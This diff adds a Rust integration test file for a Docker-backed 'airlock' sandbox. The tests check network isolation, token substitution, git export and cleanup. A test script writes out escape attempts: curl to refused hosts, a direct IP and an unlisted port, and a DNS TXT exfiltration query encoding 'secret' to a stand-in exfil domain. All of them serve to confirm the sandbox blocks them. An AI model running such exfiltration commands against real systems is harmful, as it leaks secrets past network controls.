@@ -1,0 +1,268 @@
+//! `airlock sandbox` with the `docker` provider, driven through the real binary and a real
+//! Docker engine: the container (built locally from host files by
+//! `fixtures/build_sandbox_image.sh`, no registry) has no network but airlock's capture, so
+//! the escape checks of `airlock run` fail the same way inside it (direct IP, an unlisted
+//! port, DNS exfiltration over UDP, a refused host); commands stream; the private clone is exported back; git
+//! pushes with a surrogate token; teardown and a SIGKILLed daemon leave no container, no
+//! directory and no process behind.
+//!
+//! Needs root and a running Docker engine; without them each test prints why and returns.
+
+#[path = "support/sandbox.rs"]
+mod sandbox;
+mod support;
+
+use std::process::Command;
+use std::time::Duration;
+
+use sandbox::{SandboxHome, alive, files_containing, status, wait_until};
+use serde_json::Value;
+use support::fixture_server::{FixtureServer, make_repository};
+use support::{TestPki, Upstream};
+
+/// The image the tests run.
+const IMAGE: &str = "airlock-test-sandbox:1";
+/// The value only the upstream knows.
+const REAL: &str = "ghp_R3alDock3rT0kenOnlyTheServerKnows042";
+
+/// Whether Docker can be used here (root, engine answering); builds the test image.
+fn docker_ready(test: &str) -> bool {
+    // SAFETY: geteuid has no preconditions.
+    if unsafe { libc::geteuid() } != 0 {
+        eprintln!(
+            "skipping {test}: the docker provider needs root (it enters the container's network namespace)"
+        );
+        return false;
+    }
+    let answers = Command::new("docker")
+        .args(["version", "--format", "{{.Server.Version}}"])
+        .output()
+        .is_ok_and(|output| output.status.success());
+    if !answers {
+        eprintln!("skipping {test}: no Docker engine answers here");
+        return false;
+    }
+    let script = concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/tests/fixtures/build_sandbox_image.sh"
+    );
+    let built = Command::new("bash")
+        .arg(script)
+        .output()
+        .expect("run the image builder");
+    assert!(
+        built.status.success(),
+        "building {IMAGE} failed: {}",
+        String::from_utf8_lossy(&built.stderr)
+    );
+    true
+}
+
+/// Containers labelled for this home's state root.
+fn containers_of(home: &SandboxHome) -> Vec<String> {
+    let filter = format!("label=airlock.root={}", home.root().display());
+    let output = Command::new("docker")
+        .args(["ps", "-a", "-q", "--filter", &filter])
+        .output()
+        .expect("docker ps");
+    String::from_utf8_lossy(&output.stdout)
+        .lines()
+        .map(str::to_owned)
+        .collect()
+}
+
+fn create(home: &SandboxHome, name: &str, flags: &[String], env: &[(&str, &str)]) {
+    let mut args = vec!["create", name, "--provider", "docker", "--image", IMAGE];
+    args.extend(flags.iter().map(String::as_str));
+    let output = home.run_with_env(&args, env);
+    assert_eq!(status(&output), 0, "create {name}: {}", output.stderr);
+}
+
+#[test]
+fn a_docker_sandbox_streams_refuses_every_escape_and_rm_leaves_nothing() {
+    if !docker_ready("a_docker_sandbox_streams_refuses_every_escape") {
+        return;
+    }
+    let pki = TestPki::new();
+    let upstream = Upstream::tls(&pki);
+    let port = upstream.port();
+    let home = SandboxHome::new();
+    let flags: Vec<String> = vec![
+        "--resolve".into(),
+        "allowed.test:127.0.0.1".into(),
+        "--upstream-ca".into(),
+        pki.upstream_ca_cert.to_string_lossy().into_owned(),
+        "--allow".into(),
+        format!("allowed.test:{port}"),
+        "--secret".into(),
+        "API_TOKEN@allowed.test".into(),
+        "--memory".into(),
+        "256".into(),
+        "--pids".into(),
+        "64".into(),
+    ];
+    create(&home, "box", &flags, &[("API_TOKEN", REAL)]);
+    assert_eq!(containers_of(&home).len(), 1);
+
+    let run = home.exec_json("box", "echo out; echo err >&2; pwd; exit 5");
+    assert_eq!(run.stdout, ["out", "/workspace"], "{run:?}");
+    assert_eq!(run.stderr, ["err"], "{run:?}");
+    assert_eq!(run.report["exit"], 5, "{run:?}");
+
+    let script = format!(
+        "curl -sS --max-time 20 -H \"Authorization: Bearer $API_TOKEN\" https://allowed.test:{port}/echo/docker; echo; \
+         curl -sS --max-time 20 https://refused.example/x; echo; \
+         curl -sSk --max-time 20 https://203.0.113.7/direct; echo; \
+         curl -sS --max-time 5 http://198.51.100.9:8081/ >/dev/null 2>&1 || echo PORT-CLOSED; \
+         nslookup -type=txt c2VjcmV0.exfil.example 192.0.2.53 >/dev/null 2>&1; echo DNS-ASKED; \
+         ip -o link | wc -l; ls /var/run/docker.sock 2>/dev/null | wc -l; \
+         echo \"$API_TOKEN\"; env | grep -c {REAL}"
+    );
+    let run = home.exec_json_with("box", &["--timeout", "100"], &script);
+    let out = &run.stdout;
+    let allowed: Value = serde_json::from_str(&out[0]).unwrap_or_else(|e| panic!("{e}: {run:?}"));
+    assert_eq!(allowed["path"], "/echo/docker", "{run:?}");
+    let refused: Value = serde_json::from_str(&out[1]).expect("refusal");
+    assert_eq!(refused["reason"], "host_not_allowed", "{run:?}");
+    let direct: Value = serde_json::from_str(&out[2]).expect("refusal of a direct IP");
+    assert_eq!(direct["host"], "203.0.113.7", "{run:?}");
+    assert_eq!(direct["error"], "blocked_by_policy", "{run:?}");
+    assert_eq!(
+        out[3], "PORT-CLOSED",
+        "an unlisted port must not connect: {run:?}"
+    );
+    assert_eq!(out[4], "DNS-ASKED", "{run:?}");
+    assert_eq!(out[5], "1", "only lo inside the container: {run:?}");
+    assert_eq!(out[6], "0", "no engine socket inside: {run:?}");
+    assert_eq!(out[7].len(), REAL.len(), "{run:?}");
+    assert_ne!(out[7], REAL);
+    assert_eq!(out[8], "0", "{run:?}");
+    // The upstream got the real key; it was hit exactly once (the direct IP went nowhere).
+    assert_eq!(upstream.hit_count(), 1);
+    let hit = upstream.hits().pop().expect("hit");
+    assert!(hit.headers.iter().any(|(n, v)| n.eq_ignore_ascii_case("authorization") && v == &format!("Bearer {REAL}")));
+    let audit = home.audit_text("box");
+    for expected in [
+        "\"host\":\"refused.example\"",
+        "\"host\":\"203.0.113.7\"",
+        "c2vjcmv0.exfil.example",
+    ] {
+        assert!(
+            audit.contains(expected),
+            "{expected} not in the audit log:\n{audit}"
+        );
+    }
+    assert!(!audit.contains(REAL));
+
+    // The limits reached the container.
+    let inspect = Command::new("docker")
+        .args([
+            "inspect",
+            "--format",
+            "{{.HostConfig.Memory}} {{.HostConfig.PidsLimit}} {{.HostConfig.NetworkMode}}",
+        ])
+        .arg(&containers_of(&home)[0])
+        .output()
+        .expect("docker inspect");
+    assert_eq!(
+        String::from_utf8_lossy(&inspect.stdout).trim(),
+        format!("{} 64 none", 256 * 1024 * 1024)
+    );
+
+    // A wall-clock limit.
+    let run = home.exec_json_with("box", &["--timeout", "1"], "sleep 5071 & sleep 5072");
+    assert_eq!(run.report["exit"], 124, "{run:?}");
+    assert!(wait_until(Duration::from_secs(5), || {
+        !sandbox::process_with_marker("sleep 5071")
+    }));
+
+    let daemon = home.daemon_pid("box");
+    home.must(&["rm", "box"]);
+    assert!(containers_of(&home).is_empty(), "a container survived rm");
+    assert!(!home.sandbox_dir("box").exists());
+    assert!(wait_until(Duration::from_secs(5), || !alive(daemon)));
+    assert_eq!(files_containing(&home.root(), REAL), Vec::<String>::new());
+}
+
+#[test]
+fn a_docker_sandbox_clones_exports_pushes_and_survives_a_killed_daemon() {
+    if !docker_ready("a_docker_sandbox_clones_exports_pushes") {
+        return;
+    }
+    let pki = TestPki::new();
+    let home = SandboxHome::new();
+    let repos = home.scratch().join("repos");
+    std::fs::create_dir_all(&repos).expect("repos");
+    make_repository(&repos, &home.scratch());
+    let source = home.scratch().join("source");
+    let server = FixtureServer::git_with_password(&pki, &repos, REAL);
+    let flags: Vec<String> = vec![
+        "--resolve".into(),
+        "other.test:127.0.0.1".into(),
+        "--upstream-ca".into(),
+        pki.upstream_ca_cert.to_string_lossy().into_owned(),
+        "--allow".into(),
+        format!("other.test:{}", server.port),
+        "--secret".into(),
+        "GIT_TOKEN@other.test".into(),
+        "--repo".into(),
+        source.to_string_lossy().into_owned(),
+    ];
+    create(&home, "dock", &flags, &[("GIT_TOKEN", REAL)]);
+    let script = format!(
+        "pwd; git rev-parse --abbrev-ref HEAD; echo change > agent.txt && git add agent.txt && \
+         git -c user.name=agent -c user.email=agent@example.invalid commit -q -m 'docker change' && echo COMMITTED; \
+         git push -q https://other.test:{port}/repo.git HEAD:refs/heads/from-docker 2>&1 && echo PUSHED",
+        port = server.port
+    );
+    let run = home.exec_json_with("dock", &["--timeout", "100"], &script);
+    assert_eq!(
+        run.stdout,
+        [
+            "/workspace/airlock-dock",
+            "airlock/dock",
+            "COMMITTED",
+            "PUSHED"
+        ],
+        "{run:?}"
+    );
+    let log = |dir: &std::path::Path, reference: &str| {
+        let output = Command::new("git")
+            .arg("--git-dir")
+            .arg(dir)
+            .args(["log", "-1", "--format=%s", reference])
+            .output()
+            .expect("git log");
+        String::from_utf8_lossy(&output.stdout).trim().to_owned()
+    };
+    assert_eq!(log(&repos.join("repo.git"), "from-docker"), "docker change");
+    home.must(&["export", "dock"]);
+    assert_eq!(log(&source.join(".git"), "airlock/dock"), "docker change");
+    assert!(!source.join("agent.txt").exists());
+
+    // kill -9 of the daemon: the next command finds the orphaned container and removes it.
+    let daemon = home.daemon_pid("dock");
+    // SAFETY: kill has no memory-safety preconditions.
+    unsafe { libc::kill(daemon, libc::SIGKILL) };
+    assert!(wait_until(Duration::from_secs(10), || !alive(daemon)));
+    assert_eq!(
+        containers_of(&home).len(),
+        1,
+        "the container outlives a killed daemon"
+    );
+    let listed = home.run(&["ls", "--json"]);
+    assert_eq!(status(&listed), 0, "{}", listed.stderr);
+    assert!(
+        listed
+            .stderr
+            .contains("removed the orphaned container of sandbox dock"),
+        "{}",
+        listed.stderr
+    );
+    assert!(containers_of(&home).is_empty());
+    let line: Value = serde_json::from_slice(&listed.stdout).expect("ls json");
+    assert_eq!(line["status"], "dead", "{line}");
+    home.must(&["rm", "dock"]);
+    assert!(!home.sandbox_dir("dock").exists());
+    assert_eq!(files_containing(&home.root(), REAL), Vec::<String>::new());
+}
